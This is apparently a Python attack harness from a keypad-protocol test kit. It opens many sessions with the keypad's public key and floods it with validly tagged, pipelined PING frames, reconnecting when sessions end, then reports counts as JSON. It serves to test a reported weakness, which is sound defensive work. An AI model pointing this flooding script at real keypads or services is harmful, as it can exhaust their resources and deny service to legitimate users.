"""The PING-pipelining attacker (issue 11 item 4), run as a separate process.

``python -m keycrypt_kit.attacks.pipeline --port P --pubkey FILE --sessions N --seconds S``

Anyone with the keypad's public key can open sessions (``require_enrolled``
is off by default): the attacker encapsulates, so it knows its own session
keys and can tag as many valid PINGs as it likes. Each of the N sessions
sends its PINGs back to back, ``--batch`` at a time, without waiting for the
PONGs (pipelining), and reconnects when the keypad ends the session, until S
seconds have passed. Prints one JSON line: sessions opened, PINGs sent,
PONGs received, sessions the keypad ended.
"""

from __future__ import annotations

import argparse
import asyncio
import json
import os
import sys
import time
from pathlib import Path

from keycrypt.constants import CHALLENGE_SIZE
from keycrypt.crypto.kem import get_backend
from keycrypt.crypto.schedule import mac
from keycrypt.machines.actions import Established, Send
from keycrypt.machines.client import ClientConfig, ClientSession
from keycrypt.wire import fastpath


class Tally:
    def __init__(self) -> None:
        self.opened = self.failed = self.pings = self.pong_bytes = self.ended = 0


async def _session(host: str, port: int, ek: bytes, cid: str, batch: int, end: float, t: Tally) -> None:
    kem = get_backend("cryptography")
    while time.monotonic() < end:
        try:
            reader, writer = await asyncio.open_connection(host, port)
        except OSError:
            t.failed += 1
            await asyncio.sleep(0.05)
            continue
        s = ClientSession(ClientConfig(ek=ek, client_id=cid), kem=kem, random=os.urandom)
        now = time.monotonic()
        s.start(now, None)
        for a in s.connected(now):
            if isinstance(a, Send):
                writer.write(a.data)
        established = False
        try:
            while not established:
                data = await asyncio.wait_for(reader.read(4096), 2.0)
                if not data:
                    break
                established = any(isinstance(a, Established) for a in s.receive_data(data, time.monotonic()))
            if not established or s.keys is None:
                t.failed += 1
                writer.transport.abort()
                continue
            t.opened += 1
            keys, counter = s.keys, s.counter

            async def drain(reader: asyncio.StreamReader = reader) -> None:
                while True:
                    data = await reader.read(65536)
                    if not data:
                        return
                    t.pong_bytes += len(data)

            reading = asyncio.create_task(drain())
            while time.monotonic() < end and not reading.done():
                frames = []
                for _ in range(batch):
                    prefix = fastpath.ping_prefix(counter, os.urandom(CHALLENGE_SIZE))
                    frames.append(prefix + mac(keys.c2k, prefix))
                    counter += 1
                writer.write(b"".join(frames))
                t.pings += batch
                try:
                    await asyncio.wait_for(writer.drain(), 1.0)
                except (asyncio.TimeoutError, ConnectionError, OSError):
                    pass
                await asyncio.sleep(0)
            if reading.done():
                t.ended += 1
            reading.cancel()
        except (OSError, asyncio.TimeoutError, ConnectionError):
            t.ended += 1
        finally:
            writer.transport.abort()


async def run(host: str, port: int, ek: bytes, sessions: int, seconds: float, batch: int) -> dict[str, object]:
    t = Tally()
    end = time.monotonic() + seconds
    await asyncio.gather(*(_session(host, port, ek, f"pipe-{i}", batch, end, t) for i in range(sessions)))
    return {
        "event": "done",
        "sessions": sessions,
        "opened": t.opened,
        "handshake_failures": t.failed,
        "pings_sent": t.pings,
        "pongs_received": t.pong_bytes // fastpath.PONG_SIZE,
        "ended_by_keypad": t.ended,
        "seconds": seconds,
    }


def main(argv: list[str] | None = None) -> int:
    ap = argparse.ArgumentParser(prog="python -m keycrypt_kit.attacks.pipeline")
    ap.add_argument("--host", default="127.0.0.1")
    ap.add_argument("--port", type=int, required=True)
    ap.add_argument("--pubkey", required=True, help="the keypad's public key file (world-readable on a real keypad)")
    ap.add_argument("--sessions", type=int, default=100)
    ap.add_argument("--seconds", type=float, default=3.0)
    ap.add_argument("--batch", type=int, default=200, help="PINGs written back to back per write")
    a = ap.parse_args(argv)
    from keycrypt.keystore import read_pubkey

    ek = read_pubkey(Path(a.pubkey))
    out = asyncio.run(run(a.host, a.port, ek, a.sessions, a.seconds, a.batch))
    print(json.dumps(out), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
